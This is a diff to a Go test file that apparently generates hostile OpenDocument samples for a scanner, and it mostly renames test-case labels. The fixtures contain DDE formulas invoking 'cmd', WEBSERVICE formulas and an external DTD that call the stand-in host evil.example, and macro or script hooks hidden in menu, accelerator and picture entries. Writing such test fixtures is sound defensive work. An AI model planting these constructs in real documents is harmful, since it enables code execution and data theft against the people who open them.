@@ -66,8 +66,8 @@ func hostileODFParts() (files []File) {
 		"a formula that asks a program, in ODF":               `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"/>`,
 		"a formula that fetches, in ODF":                      `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
 		"a formula that fetches by another name":              `<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
-		"a name for what fetches":                             `<table:named-expression table:expression="of:WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
-		"a name for what fetches, and is long":                `<table:named-expression table:expression="of:` + strings.Repeat("1+", 3000) + `WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
+		"a named expression that fetches":                     `<table:named-expression table:expression="of:WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
+		"a named expression that fetches, and is long":        `<table:named-expression table:expression="of:` + strings.Repeat("1+", 3000) + `WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
 		"a condition of LibreOffice that fetches":             `<calcext:condition xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" calcext:value="formula-is(WEBSERVICE(&quot;http://evil.example/&quot;))"/>`,
 		"a formula that asks a program, in ODF, with a colon": `<table:table-cell table:formula="=cmd|calc!A1:B2"/>`,
 		"a menu that calls a macro after a blank":             `<menu:menuitem xmlns:menu="http://openoffice.org/2001/menu" menu:id=" macro:///x"/>`,
@@ -79,17 +79,17 @@ func hostileODFParts() (files []File) {
 		files = append(files, File{About: "OpenDocument: " + about, Name: "a.odt", Type: typeODT, Code: content, Content: odfText(texts[about])})
 	}
 	more := map[string][]byte{
-		"a script in UTF-16":            odf(typeODT, "", file("content2.xml", utf16LE(strings.Replace(odfContent(event(script)), "UTF-8", "UTF-16", 1)))),
-		"a script under another name":   odf(typeODT, "", file("Object 1", odfContent(event(script)))),
-		"a command that is a script":    odf(typeODT, "", file("Configurations2/menubar/menubar.xml", `<menu:menubar xmlns:menu="http://openoffice.org/2001/menu"><menu:menuitem menu:id="vnd.sun.star.script:x$f"/></menu:menubar>`)),
-		"a key that is a script":        odf(typeODT, "", file("Configurations2/accelerator/current.xml", `<a:acceleratorlist xmlns:a="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink"><a:item xlink:href="vnd.sun.star.script:x$f"/></a:acceleratorlist>`)),
-		"dialogs":                       odf(typeODT, "", file("Dialogs/Standard/a.xml", "<x/>")),
-		"a document type of its own":    odf(typeODT, "", file("content2.xml", `<!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "http://evil.example/math.dtd"><x/>`)),
-		"a document type with a subset": odf(typeODT, "", file("content2.xml", `<!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "math.dtd" [<!ENTITY a "b">]><x/>`)),
-		"a batch file":                  odf(typeODT, "", file("Pictures/a.bat", "calc")),
-		"a script of its own":           odf(typeODT, "", file("Pictures/a.js", "x")),
-		"content that is not XML":       odf(typeODT, "", file("styles.xml", "hello")),
-		"content in Shift_JIS":          odf(typeODT, "", file("styles.xml", `<?xml version="1.0" encoding = "Shift_JIS"?><x/>`)),
+		"a script in UTF-16":             odf(typeODT, "", file("content2.xml", utf16LE(strings.Replace(odfContent(event(script)), "UTF-8", "UTF-16", 1)))),
+		"a script under another name":    odf(typeODT, "", file("Object 1", odfContent(event(script)))),
+		"a command that is a script":     odf(typeODT, "", file("Configurations2/menubar/menubar.xml", `<menu:menubar xmlns:menu="http://openoffice.org/2001/menu"><menu:menuitem menu:id="vnd.sun.star.script:x$f"/></menu:menubar>`)),
+		"a key that is a script":         odf(typeODT, "", file("Configurations2/accelerator/current.xml", `<a:acceleratorlist xmlns:a="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink"><a:item xlink:href="vnd.sun.star.script:x$f"/></a:acceleratorlist>`)),
+		"dialogs":                        odf(typeODT, "", file("Dialogs/Standard/a.xml", "<x/>")),
+		"a document type from elsewhere": odf(typeODT, "", file("content2.xml", `<!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "http://evil.example/math.dtd"><x/>`)),
+		"a document type with a subset":  odf(typeODT, "", file("content2.xml", `<!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "math.dtd" [<!ENTITY a "b">]><x/>`)),
+		"a batch file":                   odf(typeODT, "", file("Pictures/a.bat", "calc")),
+		"a script file":                  odf(typeODT, "", file("Pictures/a.js", "x")),
+		"content that is not XML":        odf(typeODT, "", file("styles.xml", "hello")),
+		"content in Shift_JIS":           odf(typeODT, "", file("styles.xml", `<?xml version="1.0" encoding = "Shift_JIS"?><x/>`)),
 	}
 	for _, about := range slices.Sorted(maps.Keys(more)) {
 		files = append(files, File{About: "OpenDocument: " + about, Name: "a.odt", Type: typeODT, Code: content, Content: more[about]})
